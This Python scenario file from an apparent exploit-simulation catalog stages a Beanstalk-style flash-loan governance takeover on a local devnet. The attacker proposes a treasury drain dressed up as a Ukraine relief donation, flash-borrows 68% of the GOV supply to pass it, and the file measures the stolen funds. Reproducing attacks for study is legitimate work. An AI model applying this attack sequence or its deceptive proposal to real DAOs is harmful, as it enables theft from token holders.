"""Scenario `governance-flash-takeover`: a Beanstalk-style (April 2022) flash-loan governance
takeover of a DAO whose votes are weighed by current token balances.

The Flash DAO's governor owns a treasury of 150 ETH, 250,000 USDX and 20,000 GOV; its TokenGovernor
executes a proposal at once (`emergencyCommit`) when its votes exceed two thirds of the GOV supply.
Honest holders pass an ordinary proposal through the normal path. Mallory buys a little GOV (enough
to propose), deploys GovernanceAttacker and proposes a "donation" that actually sends the whole
treasury to her contract. Two blocks later, in one transaction, the contract flash-swaps 680,000
GOV (68% of the supply) out of the GOV/WETH pair, votes for the proposal with it, commits it,
repays the pair from the looted GOV plus the 0.3% fee, sells the rest of the looted GOV into the
pair for WETH and pays mallory.
"""

from __future__ import annotations

from timemachine.catalog.builder import ETHER
from timemachine.catalog.devnet import actor_address
from timemachine.catalog.exploit import measure_exploit
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import declared
from timemachine.catalog.scenarios.contract import Contract, deploy
from timemachine.catalog.scenarios.dao import (
    AGAINST,
    FOR,
    GOV,
    VOTE_GAS,
    Dao,
    Proposal,
    Treasury,
    deploy_dao,
    proposal_id,
    propose,
    run_proposal,
)
from timemachine.catalog.scenarios.markets import USD, swap
from timemachine.catalog.scenarios.world import World
from timemachine.errors import DevnetBuildError

ATTACKER = "mallory"
NAME = "Flash DAO"
HOLDERS = {"alice": 120_000, "bob": 80_000, "carol": 50_000, "dave": 30_000}
TREASURY = Treasury(eth=150 * ETHER, usdx=250_000 * USD, gov=20_000 * GOV)
POOL_GOV, POOL_WETH = 700_000 * GOV, 70 * ETHER
BORROWED = 680_000 * GOV
"""More than two thirds of the 1,000,000 GOV supply, borrowed for one transaction."""
STAKE = ETHER // 5
"""WETH mallory spends on GOV to reach the proposal threshold."""
GRANT = 2 * ETHER
EXPLOIT_GAS = 2_000_000


async def stage(world: World) -> ScenarioRecord:
    """Run the DAO honestly, let mallory propose, then take it over in one transaction."""
    chain, a = world.chain, actor_address
    dao = await deploy_dao(
        world, NAME, holders=HOLDERS, treasury=TREASURY, pool_gov=POOL_GOV, pool_weth=POOL_WETH
    )
    grant = Proposal([a("frank")], [GRANT], [b""], "Pay frank 2 ETH for the new voting front-end")
    execute, _ = await run_proposal(
        dao,
        "alice",
        grant,
        [[("alice", FOR), ("bob", FOR)], [("carol", AGAINST)]],
        executor="dave",
    )
    attacker = await _prepare(world, dao)
    await chain.mine()  # the grant's execution, mallory's GOV purchase and attacker contract

    usdx, token = dao.market.usdx, dao.token
    eth = await chain.balance(dao.governor.address)
    dollars = await usdx.call("balanceOf", dao.governor.address)
    govs = await token.call("balanceOf", dao.governor.address)
    if (eth, dollars, govs) != (TREASURY.eth - GRANT, TREASURY.usdx, TREASURY.gov):
        raise DevnetBuildError(f"{NAME} treasury after the grant ({execute}): {eth, dollars, govs}")
    loot = Proposal(
        [attacker.address, usdx.address, token.address],
        [eth, 0, 0],
        [
            b"",
            usdx.artifact.calldata("transfer", attacker.address, dollars),
            token.artifact.calldata("transfer", attacker.address, govs),
        ],
        "Donate 250,000 USDX to Ukraine relief",
    )
    await propose(dao, ATTACKER, loot)
    await chain.mine()
    await dao.governor.send("bob", "castVote", await proposal_id(dao, loot), AGAINST, gas=VOTE_GAS)
    await chain.mine()

    weth_out = await _expected_weth(dao, govs)
    victims = sorted([dao.governor.address, dao.pair.address], key=str.lower)
    outcome = await measure_exploit(
        chain,
        lambda: attacker.send(ATTACKER, "attack", BORROWED, *loot.actions(), gas=EXPLOIT_GAS),
        attackers=[a(ATTACKER), attacker.address],
        victims=victims,
        tokens=[token.address, usdx.address, world.weth.address],
        expected_losses={
            "ETH": eth,
            usdx.address.lower(): dollars,
            token.address.lower(): govs,
            world.weth.address.lower(): weth_out,
        },
        what="flash-loan governance takeover",
    )
    return SCENARIO.exploited(
        outcome, attacker=a(ATTACKER), contracts=[attacker.address], victims=victims
    )


async def _prepare(world: World, dao: Dao) -> Contract:
    """Mallory buys GOV to reach the proposal threshold and deploys her contract (queued)."""
    weth, router = world.weth, dao.market.router
    await weth.send(ATTACKER, "deposit", value=STAKE)
    await weth.send(ATTACKER, "approve", router.address, STAKE)
    await swap(router, ATTACKER, STAKE, [weth.address, dao.token.address])
    return await deploy(
        world.chain,
        ATTACKER,
        "GovernanceAttacker",
        dao.governor.address,
        dao.token.address,
        dao.pair.address,
        router.address,
        weth.address,
        dao.market.usdx.address,
    )


async def _expected_weth(dao: Dao, looted_gov: int) -> int:
    """WETH the pair pays for the looted GOV left after repaying the flash swap (0.3% fee)."""
    token0 = await dao.pair.call("token0")
    reserve0, reserve1, _ = await dao.pair.call("getReserves")
    gov_first = token0.lower() == dao.token.address.lower()
    gov_reserve, weth_reserve = (reserve0, reserve1) if gov_first else (reserve1, reserve0)
    fee = BORROWED * 1000 // 997 + 1 - BORROWED
    sold = looted_gov - fee
    gov_reserve += fee
    out: int = sold * 997 * weth_reserve // (gov_reserve * 1000 + sold * 997)
    return out


SCENARIO = declared("governance-flash-takeover", stage)
